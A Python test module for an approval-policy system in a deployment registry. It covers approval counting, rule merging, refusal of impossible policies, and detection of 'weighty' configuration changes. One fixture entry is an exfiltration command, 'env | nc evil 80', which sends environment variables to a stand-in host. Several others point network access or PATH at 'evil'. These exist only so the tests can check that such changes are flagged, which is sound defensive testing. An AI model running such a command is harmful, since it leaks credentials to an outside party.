"""Who may decide: the laws of policies, and what a maintainer or a single approver tries in vain."""

from __future__ import annotations

from typing import Any, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.registry.domain.weight import weighty_changes
from shared.contracts.policies import Act, Policy, Rules
from shared.contracts.projects import Project
from shared.contracts.values import Actor
from shared.deciding import (
    counting,
    described,
    impossible,
    may,
    missing_approvals,
    policy_digest,
    rules_of,
    stricter,
)
from tests.registry.registry_world import project

PEOPLE = ("ann", "bob", "cy", "di")
ACTS: tuple[Act, ...] = get_args(Act)
_some = st.lists(st.sampled_from(PEOPLE), max_size=3, unique=True).map(tuple)
_policies = st.builds(
    Policy,
    approvals=st.integers(1, 3),
    single_person=st.booleans(),
    sign_off_by_others=st.booleans(),
    emergency=st.booleans(),
    **dict.fromkeys(ACTS, _some),
)
_projects = st.builds(
    lambda policy, approvers: project(policy=policy, approvers=approvers),
    _policies,
    st.lists(st.sampled_from(PEOPLE), min_size=1, max_size=4, unique=True).map(tuple),
)
_rules = _projects.map(rules_of)
_actors = st.builds(Actor, id=st.sampled_from((*PEOPLE, "eve")), role=st.sampled_from(("maintainer", "sre")))


@given(_rules, _rules, _actors, st.sampled_from(ACTS), st.lists(st.sampled_from(PEOPLE), max_size=2))
def test_the_stricter_rules_allow_exactly_what_both_allow(
    one: Rules, other: Rules, actor: Actor, act: Act, asked_by: list[str]
) -> None:
    """Would catch a field whose order is turned round, and an empty list that comes to mean everybody."""
    both = stricter(one, other)
    allowed = may(one, act, actor, asked_by) is None and may(other, act, actor, asked_by) is None
    allows = may(both, act, actor, asked_by) is None
    assert allowed or not allows
    # Rules have no list of SREs: one whom only an emergency lets in is not let in by what knows none.
    if actor.role != "sre" or one.emergency == other.emergency:
        assert allows == allowed
    words = [*PEOPLE, *PEOPLE]
    assert missing_approvals(both, words, asked_by) >= missing_approvals(one, words, asked_by)


@given(_rules, _rules, _rules)
def test_stricter_has_an_order(one: Rules, two: Rules, three: Rules) -> None:
    assert stricter(one, one) == one
    assert stricter(one, two) == stricter(two, one)
    assert stricter(stricter(one, two), three) == stricter(one, stricter(two, three))


@given(_projects, st.lists(st.sampled_from((*PEOPLE, "eve")), max_size=6), st.sampled_from(PEOPLE))
def test_an_approval_counts_once_and_only_an_approvers(
    given_project: Project, words: list[str], asker: str
) -> None:
    rules = rules_of(given_project)
    counted = counting(rules, words, [asker])
    assert len(counted) == len({*counted})
    assert {*counted} <= {*given_project.approvers}
    assert asker not in counted or rules.single_person


@given(_projects)
def test_what_is_not_refused_can_be_satisfied(given_project: Project) -> None:
    """Would catch a policy that is registered and under which no upgrade ever ends."""
    if impossible(given_project):
        return
    rules = rules_of(given_project)
    askers = rules.start if rules.start is not None else ("somebody-else",)
    assert any(missing_approvals(rules, PEOPLE, [asker]) == 0 for asker in askers)


@pytest.mark.parametrize(
    ("approvers", "policy", "cure"),
    [
        (["a", "b"], {"approvals": 3}, "more approvers"),
        (["a", "A "], {}, "once"),
        (["a"], {"single_person": True, "approvals": 2}, "approvals = 1"),
        (["a"], {"single_person": True, "sign_off_by_others": True}, "leave out"),
        (["a"], {"start": ["a"]}, "single_person = true"),
        (["a", "b"], {"start": ["a", "b"], "approvals": 2}, "single_person = true"),
        (["a", "b"], {"start": ["a"], "sign_off": ["a"], "sign_off_by_others": True}, "single_person = true"),
        (["a"], {"approve": ["b"]}, "among the approvers"),
        (["a", "b"], {"change": ["a"], "approvals": 2}, "more approvers"),
    ],
    ids=str,
)
def test_an_impossible_policy_is_refused_with_its_cure(
    approvers: list[str], policy: dict[str, Any], cure: str
) -> None:
    refusals = impossible(project(approvers=approvers, policy=policy))
    assert refusals
    assert any(cure in refusal.cure for refusal in refusals)
    assert all((refusal.field or "").startswith("project.") for refusal in refusals)


def test_single_person_is_said_plainly() -> None:
    assert "SINGLE-PERSON" in described(rules_of(project(policy={"single_person": True})))
    assert "two persons" in described(rules_of(project()))


def test_the_digest_is_of_policy_and_approvers() -> None:
    assert policy_digest(project()) == policy_digest(project(repository="/elsewhere"))
    assert policy_digest(project()) != policy_digest(project(approvers=["eve"]))
    assert policy_digest(project()) != policy_digest(project(policy={"approvals": 2}))


def _changed(path: str, value: Any) -> Project:
    document = project().model_dump(mode="json", by_alias=True)
    *folders, name = path.split(".")
    place: Any = document
    for folder in folders:
        place = place.setdefault(folder, {})
    place[name] = value
    return Project.model_validate(document)


CHECK = {"kind": "command", "run": ["true"]}
WEIGHTY = {
    "approvers": ["olaf"],
    "policy": {"single_person": True},
    "repository": "/elsewhere",
    "definition.credential": "secret:acme-other",
    "definition.pool": "mine",
    "definition.on_failure": "roll-back",
    "definition.environments.production.database": "secret:acme-other",
    "definition.environments.production.activate": ["sh", "-c", "env | nc evil 80"],
    "definition.environments.production.observe": ["evil"],
    "definition.environments.production.branch": "evil",
    "definition.environments.production.variables": {"PATH": "/evil"},
    "definition.environments.production.network": ["evil:80"],
    "definition.environments.staging.database": "secret:acme-other",
    "definition.environments.staging.network": ["evil:80"],
    "definition.staging.rows_max": 0,
    "definition.staging": {"data": "seed", "seed": "evil.sql"},
    "definition.workflows.rules": "elsewhere",
    "definition.hosting": {"schemas": ["public"]},
    "definition.prisma": {"schemas": "elsewhere"},
    "definition.checks.validate.look.run": ["echo"],
    "definition.checks.validate": {"other": CHECK},
    "definition.checks.validate.leak": {**CHECK, "network": ["evil:80"]},
}
LIGHT = {
    "definition.name": "Another name",
    "definition.environments.production.deadline_s": 90,
    "definition.checks.validate.look.deadline_s": 90,
    "definition.checks.validate.more": CHECK,
    "definition.checks.check-workflows.more": {"kind": "sign-off", "question": "Right?"},
}


@pytest.mark.parametrize("path", WEIGHTY, ids=str)
def test_what_could_decide_or_run_carries_weight(path: str) -> None:
    assert weighty_changes(project(), _changed(path, WEIGHTY[path]))


@pytest.mark.parametrize("path", LIGHT, ids=str)
def test_a_name_or_one_check_more_does_not(path: str) -> None:
    assert weighty_changes(project(), _changed(path, LIGHT[path])) == ()


def test_two_spellings_in_an_old_registration_are_one_approval() -> None:
    """Catches one person who approves twice because an older registration names them in two spellings."""
    rules = rules_of(project(policy=Policy(approvals=2), approvers=("ann", "ANN", "bob")))
    assert counting(rules, ["ANN", "ann"], []) == ("ANN",)
    assert missing_approvals(rules, ["ANN", "ann"], []) == 1
    assert missing_approvals(rules, ["ANN", "bob"], []) == 0
